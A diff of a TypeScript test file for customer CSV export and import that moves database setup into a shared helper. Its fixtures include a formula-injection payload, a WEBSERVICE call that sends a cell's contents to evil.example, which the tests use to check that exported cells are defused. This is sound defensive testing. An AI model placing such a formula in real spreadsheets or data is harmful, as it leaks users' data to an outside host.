@@ -5,13 +5,13 @@
  * import reads back as it was.
  */
 import 'fake-indexeddb/auto';
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { csvCell, csvRow, exportCustomersCsv, exportEventsCsv } from '@/utils/customers/export';
 import { parseCustomersCsv } from '@/utils/customers/csv/parse';
 import { backupRepo } from '@/utils/db/backup-repo';
 import { customersRepo, type CustomerInput } from '@/utils/db/customers-repo';
-import { CarelineDatabase } from '@/utils/db/database';
 import { eventsRepo } from '@/utils/db/events-repo';
+import { freshDbs } from '../fresh-db';
 
 const VIP_TAGS = 'vip;=1+1';
 const FORGED_REPLY = 'Thanks for waiting!;=WEBSERVICE("https://evil.example/?leak="&A2)';
@@ -26,15 +26,7 @@ function piecesSeenWithoutQuotes(csvText: string): string[] {
   return csvText.split(/[;,\t\r\n]+/).map((piece) => piece.replace(/^"+/, ''));
 }
 
-const dbs: CarelineDatabase[] = [];
-function freshDb(): CarelineDatabase {
-  const db = new CarelineDatabase(`test-${Math.random()}`);
-  dbs.push(db);
-  return db;
-}
-afterEach(async () => {
-  await Promise.all(dbs.splice(0).map((db) => db.delete()));
-});
+const freshDb = freshDbs();
 
 describe('every cell quoted, every ;- or tab-separated piece defused', () => {
   it.each([
